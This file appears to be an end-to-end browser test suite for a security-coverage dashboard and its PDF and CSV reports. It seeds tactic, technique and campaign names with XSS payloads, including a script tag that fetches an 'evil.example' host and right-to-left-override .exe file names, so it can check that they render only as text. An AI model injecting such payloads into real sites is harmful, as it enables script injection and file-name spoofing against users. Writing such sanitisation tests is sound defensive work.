import { readFile } from 'node:fs/promises';
import type { Browser, Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { seedMetricsDataset } from '../helpers/metrics-dataset.ts';
import { team, type Team } from '../helpers/test-runs.ts';
import {
  expectNoMisconduct,
  expectNothingExecutable,
  graphqlBodies,
  launchBrowser,
  SCREENSHOTS,
  seriousViolations,
  signingIn,
} from './browser.ts';

const HOSTILE_TACTIC = '<img src=x onerror=alert(1)>';
const HOSTILE_CAMPAIGN = '<script>fetch("https://evil.example/")</script> \u202Egnp.exe';
const HOSTILE_TECHNIQUE = 'Open <a href="javascript:alert(2)">this</a> \u202Etxt.exe';
const DAY = 86_400_000;

vi.setConfig({ testTimeout: 120_000 });

let app: TestApp;
let browser: Browser;
let t: Team;
let campaignId: string;

beforeAll(async () => {
  [app, browser] = await Promise.all([startTestApp({ SOURCE_SYNC_SCHEDULES: 'false' }), launchBrowser()]);
  t = await team(app);
  const db = app.services.prisma;
  await seedMetricsDataset(app);
  await db.tactic.create({ data: { externalId: 'TA0040', shortName: 'impact', name: HOSTILE_TACTIC, matrixOrder: 5 } });
  await db.technique.create({
    data: { ttpId: 'T1485', name: HOSTILE_TECHNIQUE, tactic: HOSTILE_TACTIC, tactics: ['impact'], statusGlobal: 'not_covered' },
  });
  campaignId = (await db.campaign.create({ data: { name: HOSTILE_CAMPAIGN, createdById: t.red_lead.id } })).id;
  // Four daily snapshots in the last 90 days: the posture history has a line to draw.
  const coverage = [20, 35, 42.5, 50];
  for (const [index, coveragePercentage] of coverage.entries())
    await db.snapshot.create({
      data: {
        kind: 'daily',
        coveragePercentage,
        score: coveragePercentage - 5,
        summary: { total: 8, validated: index + 1, partial: 1, not_covered: 2, in_progress: 1, not_evaluated: 3 - index },
        createdAt: new Date(Date.now() - (80 - index * 15) * DAY),
      },
    });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await app?.close();
});

const signedIn = signingIn(() => ({ browser, url: app.url, team: t }));

const ONE_DECIMAL = new Intl.NumberFormat('en', { maximumFractionDigits: 1 });
const percent = (value: number) => `${ONE_DECIMAL.format(value)}%`;

/** Every chart drawn: an SVG in each of the dashboard's four chart areas. */
async function chartsDrawn(page: Page) {
  await page.getByRole('heading', { name: 'Summary' }).waitFor();
  await expect.poll(() => page.locator('.chart-canvas svg').count()).toBe(4);
}

async function savedText(download: Download) {
  return readFile((await download.path()) as string);
}

describe('the dashboard', () => {
  it('shows the seeded KPI figures, each chart with its figures as a table, in one request', async () => {
    const { context, page, misconduct } = await signedIn('blue_lead');
    const graphqlRequests = graphqlBodies(page);
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Dashboard' }).click();
    await page.getByRole('heading', { name: 'Dashboard', level: 1 }).waitFor();
    await chartsDrawn(page);
    expect(graphqlRequests.filter((body) => body.includes('query Dashboard'))).toHaveLength(1);

    const figures = (
      await app.graphql(
        `{ dashboardKpis { coveredPercentage totalTechniques tests { total validated } }
           operationalKpis { efficacy { rate tests } }
           coverageByTactic { tactic coveragePercentage }
           executiveSummary { summary } }`,
        {},
        t.viewer.token,
      )
    ).data;
    const kpi = (label: string) => page.locator('.kpi').filter({ has: page.getByText(label, { exact: true }) });
    expect(await kpi('Coverage').textContent()).toContain(percent(figures.dashboardKpis.coveredPercentage));
    expect(await kpi('Coverage').textContent()).toContain(`of ${figures.dashboardKpis.totalTechniques} techniques`);
    expect(await kpi('Tests validated').textContent()).toContain(
      `${figures.dashboardKpis.tests.validated} of ${figures.dashboardKpis.tests.total}`,
    );
    expect(await kpi('Detection efficacy').textContent()).toContain(percent(figures.operationalKpis.efficacy.rate));

    const byTactic = page.getByRole('table', { name: 'Coverage by tactic' });
    for (const row of figures.coverageByTactic as { tactic: string; coveragePercentage: number }[])
      expect(await byTactic.getByRole('row', { name: new RegExp(`^${literal(row.tactic)} `) }).textContent()).toContain(
        percent(row.coveragePercentage),
      );
    const posture = page.getByRole('table', { name: 'Posture history' });
    expect(await posture.getByRole('row').count()).toBe(5);
    expect(await posture.getByRole('row').nth(4).textContent()).toContain('50%');
    expect(await page.getByText(/4 snapshots: coverage from 20% on .* to 50% on/).count()).toBe(1);
    expect(await page.getByRole('table', { name: 'Time to detect and to remediate, per week' }).getByRole('row').count()).toBeGreaterThan(
      10,
    );
    expect(await page.getByRole('table', { name: 'Detection efficacy, per week' }).getByRole('row').count()).toBeGreaterThan(10);
    expect(await page.getByRole('region', { name: 'Summary' }).textContent()).toContain(figures.executiveSummary.summary);
    await page.screenshot({ path: `${SCREENSHOTS}dashboard.png` });

    // The period is in the URL and asks again.
    await page.getByLabel('Trends over').selectOption('30d');
    await expect.poll(() => new URL(page.url()).searchParams.get('period')).toBe('30d');
    await expect.poll(() => page.getByRole('table', { name: 'Posture history' }).getByRole('row').count()).toBe(1);
    expect(await page.getByText('No snapshot in this period yet.').count()).toBe(1);
    expectNoMisconduct(misconduct);
    await context.close();
  });

  it('keeps a hostile tactic name as text, in the table and in the SVG axis label', async () => {
    const { context, page, misconduct } = await signedIn('viewer');
    await page.goto('/dashboard');
    await chartsDrawn(page);
    await page.getByRole('table', { name: 'Coverage by tactic' }).getByRole('rowheader', { name: HOSTILE_TACTIC }).waitFor();
    await expectNothingExecutable(page);
    expect(await page.locator('.chart-canvas text').filter({ hasText: '<img' }).count()).toBe(1);
    expectNoMisconduct(misconduct);
    await context.close();
  });
});

describe('the reports', () => {
  it('a lead downloads the executive briefing as a PDF with visible progress, and a technique report', async () => {
    const { context, page, misconduct } = await signedIn('red_lead');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Reports' }).click();
    await page.getByRole('heading', { name: 'Reports', level: 1 }).waitFor();

    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('**/api/v1/reports/generate/executive-summary', async (route) => {
      await held;
      await route.continue();
    });
    await page.getByRole('radio', { name: /Executive briefing/ }).check();
    const downloaded = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download PDF' }).click();
    await page.getByRole('progressbar', { name: 'Report download' }).waitFor();
    expect(await page.getByRole('main').getByRole('status').textContent()).toContain('Producing the PDF');
    expect(await page.getByRole('button', { name: 'Download PDF' }).isDisabled()).toBe(true);
    release();
    const pdf = await downloaded;
    expect(pdf.suggestedFilename()).toMatch(/^executive-summary-\d{4}-\d{2}-\d{2}\.pdf$/);
    expect((await savedText(pdf)).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    await expect
      .poll(() => page.getByRole('main').getByRole('status').textContent())
      .toMatch(/^Downloaded executive-summary-.*\.pdf \(\d+ KB\)\.$/);
    await page.unroute('**/api/v1/reports/generate/executive-summary');

    await page.getByRole('radio', { name: /Technique/ }).check();
    await page.getByLabel('Technique id').fill('T9999');
    await page.getByRole('button', { name: 'Download PDF' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toMatch(/could not be produced: .*not found/i);
    await page.getByLabel('Technique id').fill('T1059');
    const technique = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download PDF' }).click();
    const techniquePdf = await technique;
    expect(techniquePdf.suggestedFilename()).toMatch(/^technique-T1059-.*\.pdf$/);
    expect((await savedText(techniquePdf)).subarray(0, 5).toString('latin1')).toBe('%PDF-');

    await page.getByRole('radio', { name: /Quarterly review/ }).check();
    await page.getByLabel('Year', { exact: true }).fill('2100');
    await page.getByLabel('Quarter', { exact: true }).selectOption('4');
    await page.getByRole('button', { name: 'Download PDF' }).click();
    await expect.poll(() => page.locator('#quarter-error').textContent()).toMatch(/quarter: Q4 2100 has not begun yet/);
    expect(await page.getByLabel('Quarter', { exact: true }).getAttribute('aria-invalid')).toBe('true');
    expectNoMisconduct(misconduct);
    await context.close();
  });

  it('a campaign report names the hostile campaign as text; a technician gets only the CSV, which downloads', async () => {
    const lead = await signedIn('blue_lead');
    await lead.page.goto('/reports?report=purple_campaign');
    await lead.page.getByRole('button', { name: 'Download PDF' }).click();
    await expect.poll(() => lead.page.getByRole('alert').textContent()).toBe('Choose a campaign.');
    await lead.page.getByLabel('Campaign', { exact: true }).selectOption(campaignId);
    expect(await lead.page.getByLabel('Campaign', { exact: true }).locator('option:checked').textContent()).toBe(
      `${HOSTILE_CAMPAIGN} (draft)`,
    );
    const campaignPdf = lead.page.waitForEvent('download');
    await lead.page.getByRole('button', { name: 'Download PDF' }).click();
    expect((await savedText(await campaignPdf)).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expectNoMisconduct(lead.misconduct);
    await lead.context.close();

    const { context, page, misconduct } = await signedIn('red_tech');
    await page.goto('/reports');
    await page.getByRole('radio', { name: /Coverage table/ }).waitFor();
    expect(await page.getByRole('radio').count()).toBe(1);
    expect(await page.getByRole('radio', { name: /Coverage table/ }).isChecked()).toBe(true);
    await page.getByLabel('Tactic').selectOption('execution');
    const downloaded = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download CSV' }).click();
    const csv = await downloaded;
    expect(csv.suggestedFilename()).toMatch(/^coverage-report-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = (await savedText(csv)).toString('utf8').trim().split(/\r?\n/);
    expect(lines[0]).toMatch(/^ttp_id,name,tactics,platforms/);
    expect(
      lines
        .slice(1)
        .map((line) => line.split(',')[0])
        .sort(),
    ).toEqual(['T1053', 'T1059', 'T1059.001']);
    expectNoMisconduct(misconduct);
    await context.close();
  });
});

describe('accessibility', () => {
  for (const scheme of ['light', 'dark'] as const) {
    it(`the dashboard and the reports have no serious or critical axe violation in the ${scheme} theme`, async () => {
      const { context, page, misconduct } = await signedIn('admin', scheme);
      await page.goto('/dashboard');
      await chartsDrawn(page);
      const found: Record<string, unknown> = { dashboard: await seriousViolations(page) };
      await page.goto('/reports?report=quarterly_summary');
      await page.getByLabel('Quarter', { exact: true }).waitFor();
      found.reports = await seriousViolations(page);
      await page.goto('/reports?report=purple_campaign');
      await page.getByRole('button', { name: 'Download PDF' }).click();
      await page.getByRole('alert').waitFor();
      found['reports-error'] = await seriousViolations(page);
      expect(found).toEqual({ dashboard: [], reports: [], 'reports-error': [] });
      expectNoMisconduct(misconduct);
      await context.close();
    });
  }
});

function literal(text: string) {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
